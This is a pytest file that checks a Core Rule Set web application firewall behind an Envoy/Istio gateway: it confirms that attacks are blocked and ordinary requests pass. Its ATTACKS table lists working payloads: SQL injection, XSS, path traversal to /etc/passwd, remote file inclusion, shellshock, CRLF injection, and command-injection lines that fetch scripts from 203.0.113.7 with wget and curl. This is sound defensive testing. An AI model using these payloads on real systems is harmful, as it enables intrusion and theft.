"""The Core Rule Set behind a real Envoy: attacks of each class, ordinary traffic, and what happens where nobody can look."""

from __future__ import annotations

import asyncio
import http.client
from collections import Counter
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, replace
from typing import Any
from urllib.parse import quote, urlencode

import pytest

from support.backend import Backend, backend
from support.carried import at
from support.compiled import gateway, inputs, warnings
from support.led_mesh import led_mesh
from support.running import free_port
from tulle.compile import build, view
from tulle.compile.explain import Request, explain_view
from tulle.model.screen import Firewall
from tulle.server.firewall import engine
from tulle.server.firewall.service import FirewallService

pytestmark = [pytest.mark.envoy, pytest.mark.timeout(90), pytest.mark.skipif(bool(engine.missing()), reason=engine.missing())]

BROWSER = {"host": "shop.example", "user-agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0", "accept": "text/html,*/*"}
REFUSED = (400, 403)
"""By the proxy's own parser, which some never get beyond, and by the firewall."""
FORM = "application/x-www-form-urlencoded"


@dataclass(frozen=True)
class Sent:
    path: str
    body: bytes = b""
    kind: str = FORM
    method: str = ""
    headers: tuple[tuple[str, str], ...] = ()


def asked(*values: str) -> list[Sent]:
    """Each as a parameter of a query, and as a field of a form."""
    return [Sent(f"/find?{urlencode({'q': v})}") for v in values] + [Sent("/form", urlencode({"q": v}).encode()) for v in values]


def agent(*names: str) -> list[Sent]:
    return [Sent("/", headers=(("user-agent", name),)) for name in names]


ATTACKS: dict[str, list[Sent]] = {
    "SQL injection": asked(
        "1' OR '1'='1",
        "1; DROP TABLE users--",
        "1 UNION SELECT username, password FROM users",
        "' OR 1=1 -- ",
        "1 AND SLEEP(5)",
        "'; EXEC xp_cmdshell('dir'); --",
        "1' AND (SELECT COUNT(*) FROM information_schema.tables) > 0 --",
    ),
    "cross-site scripting": asked(
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(document.cookie)>",
        "javascript:alert(1)//",
        "<iframe src=javascript:alert(1)>",
    ),
    "path traversal": [
        *asked("../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/shadow"),
        Sent("/static/..%2f..%2f..%2fetc%2fpasswd"),
    ],
    "local files": asked("/etc/passwd", "/proc/self/environ", "php://filter/convert.base64-encode/resource=index"),
    "remote files": asked("http://203.0.113.7/shell.txt?", "ftp://203.0.113.7/x.php?"),
    "command execution": asked(
        "; cat /etc/passwd",
        "| wget http://203.0.113.7/x.sh",
        "$(curl http://203.0.113.7/x)",
        "`id`; uname -a",
        "() { :; }; /bin/bash -c id",
    ),
    "JSON": [
        Sent("/api", b'{"name": "<script>alert(1)</script>"}', "application/json"),
        Sent("/api", b"{\"id\": \"1' OR '1'='1\"}", "application/json"),
    ],
    "scanners": agent("sqlmap/1.7", "Nikto/2.5.0", "masscan/1.3", "Nessus SOAP", "w3af.org"),
    "protocol": [
        Sent("/a%00b?x=%00", method="GET"),
        Sent("/", method="TRACE"),
        Sent("/?a=1%0d%0aSet-Cookie:%20a=b%0d%0a%0d%0a<html>"),
        Sent("/backup.sql.bak"),
        Sent("/.git/config"),
    ],
}
UPLOAD = (
    b'--here\r\nContent-Disposition: form-data; name="photo"; filename="cat.png"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n--here--\r\n'
)
ORDINARY = [
    Sent("/"),
    Sent("/shop/shoes?size=42&colour=dark%20blue"),
    Sent("/find?" + urlencode({"q": "how to select a good union for my bike & order it"})),
    Sent("/find?" + urlencode({"q": "O'Reilly books"})),
    Sent("/img/logo.png?v=20260301"),
    Sent("/" + quote("straße/köln")),
    Sent("/login", urlencode({"user": "ann@example.com", "password": "correct horse battery staple!"}).encode()),
    Sent("/comment", urlencode({"text": "Great! I'd buy it again; 10/10 - see you on Monday (or Tuesday)."}).encode()),
    Sent("/api/orders", b'{"items": [{"id": 7, "count": 2}], "note": "ring twice, please"}', "application/json"),
    Sent("/api/orders", b'{"name": "Zo\\u00eb", "price": 12.5, "gift": false, "tags": ["a", "b"]}', "application/json"),
    Sent("/", headers=(("cookie", "session=0123456789abcdef; theme=dark"), ("referer", "https://shop.example/find?q=a"))),
    Sent("/upload", UPLOAD, "multipart/form-data; boundary=here"),
]


def mesh(port: int, firewall: str) -> str:
    return f"""
apiVersion: networking.istio.io/v1
kind: Gateway
metadata: {{name: edge, namespace: istio-system}}
spec:
  selector: {{istio: ingressgateway}}
  servers: [{{port: {{number: {port}, name: http, protocol: HTTP}}, hosts: ["*"], bind: 127.0.0.1}}]
---
apiVersion: networking.istio.io/v1
kind: VirtualService
metadata: {{name: all, namespace: istio-system}}
spec: {{hosts: ["*"], gateways: [edge], http: [{{route: [{{destination: {{host: far.default.svc.cluster.local}}}}]}}]}}
---
apiVersion: tulle.dev/v1
kind: Firewall
metadata: {{name: edge, namespace: istio-system}}
spec: {{targetRefs: [{{kind: Gateway, group: networking.istio.io, name: edge}}]{firewall}}}
---
"""


def send(port: int, sent: Sent) -> int:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    try:
        more = {"content-type": sent.kind, "content-length": str(len(sent.body))} if sent.body else {}
        headers = {**BROWSER, **more, **dict(sent.headers)}
        connection.request(sent.method or ("POST" if sent.body else "GET"), sent.path, body=sent.body or None, headers=headers)
        return connection.getresponse().status
    finally:
        connection.close()


@asynccontextmanager
async def walled(firewall: str = "", service: FirewallService | None = None) -> AsyncIterator[tuple[int, FirewallService, Backend]]:
    port, service = free_port(), service or FirewallService()
    with backend("far") as far:
        beside = (service.handler(),)
        async with led_mesh(gateway(), mesh(port, firewall), at("far", 80, far.port, id="far"), beside=beside) as led:
            assert led.rejections == []
            yield port, service, far


def test_attacks_are_refused_and_ordinary_requests_are_not() -> None:
    async def whole() -> None:
        async with walled() as (port, service, far):
            passed: dict[str, list[tuple[int, Sent]]] = {}
            for kind, every in ATTACKS.items():
                told = [(one, await asyncio.to_thread(send, port, one)) for one in every]
                passed[kind] = [(status, one) for one, status in told if status not in REFUSED]
            assert {kind: one for kind, one in passed.items() if one} == {}
            assert far.seen == [], "none of them got there"
            fine = Counter([await asyncio.to_thread(send, port, one) for one in ORDINARY])
            assert fine == {200: len(ORDINARY)}
            assert service.counts["istio-system/edge", "clean"] == len(ORDINARY)

    asyncio.run(whole())


def test_detecting_excluding_and_long_bodies() -> None:
    script = Sent("/find?q=%3Cscript%3Ealert(1)%3C/script%3E")

    async def whole() -> None:
        async with walled(", mode: DETECT, maxBodyBytes: 500") as (port, service, _):
            assert await asyncio.to_thread(send, port, script) == 200
            assert service.counts == {("istio-system/edge", "found"): 1}
            assert await asyncio.to_thread(send, port, Sent("/", b"a" * 501)) == 413

    asyncio.run(whole())
    judge, request = engine.Engine().judge, engine.HttpRequest(method="GET", uri=script.path.encode(), headers=((b"host", b"a"),))
    found = judge(Firewall(name="all"), request)
    assert found.status == 403
    rest = judge(Firewall(name="some", excluded=found.rules), request)
    assert not set(found.rules) & set(rest.rules)
    assert rest.status == 0
    plain = engine.HttpRequest(method="POST", uri=b"/", headers=((b"host", b"a"), (b"content-type", b"text/plain")), body=b"hello")
    assert (judge(Firewall(name="all"), plain).status, judge(Firewall(name="plain", excluded=(920420,)), plain).status) == (403, 0)
    strict = judge(Firewall(name="strict", paranoia=4), request)
    assert set(found.rules) < set(strict.rules)


def test_rules_that_are_not_used_make_room() -> None:
    small = engine.Engine(kept=2)
    request = engine.HttpRequest(
        method="GET", uri=b"/?q=%3Cscript%3E", headers=((b"host", b"a"), (b"user-agent", b"b"), (b"accept", b"*/*"))
    )
    firewalls = [Firewall(name=str(level), paranoia=level) for level in (1, 2, 3, 1)]
    assert [small.judge(firewall, request).status for firewall in firewalls] == [403] * 4


class Nothing(engine.Engine):
    """As on a machine without the library."""

    def judge(self, *_: Any) -> Any:
        raise engine.NoFirewallError("it is not here")


@pytest.mark.parametrize(("required", "status"), [("true", 503), ("false", 200)])
def test_where_the_library_is_missing(required: str, status: int) -> None:
    async def whole() -> None:
        async with walled(f", required: {required}", FirewallService(Nothing())) as (port, service, far):
            assert [await asyncio.to_thread(send, port, one) for one in (Sent("/"), Sent("/", b"a=b"))] == [status, status]
            assert len(far.seen) == (0 if status == 503 else 2)
            assert service.counts == {("istio-system/edge", "unchecked"): 2}

    asyncio.run(whole())


@pytest.mark.parametrize(("required", "status"), [("true", 503), ("false", 200)])
def test_where_nobody_answers(required: str, status: int) -> None:
    async def whole() -> None:
        port = free_port()
        with backend("far") as far:
            text = mesh(port, f", required: {required}")
            async with led_mesh(gateway(), text, at("far", 80, far.port, id="far")) as led:
                assert led.rejections == []
                assert await asyncio.to_thread(send, port, Sent("/")) == status

    asyncio.run(whole())


def test_what_explain_says() -> None:
    seen = view(build(inputs(mesh(8080, ", paranoiaLevel: 2"))).mesh, gateway())
    told = [step.why for step in explain_view(seen, gateway(), Request(url="http://a:8080/")).steps if step.rule == "Firewall/edge"]
    assert told == ["the Core Rule Set, at level 2, looks at it and may refuse it"]


def test_what_apply_says_where_the_library_is_missing() -> None:
    for required, then in (("true", "requests are refused with 503"), ("false", "requests go on unchecked")):
        given = replace(inputs(mesh(8080, f", required: {required}")), no_firewall="it is not here")
        (said,) = warnings(build(given), "Firewall/edge")
        assert f"not in force, {then}: it is not here" in said
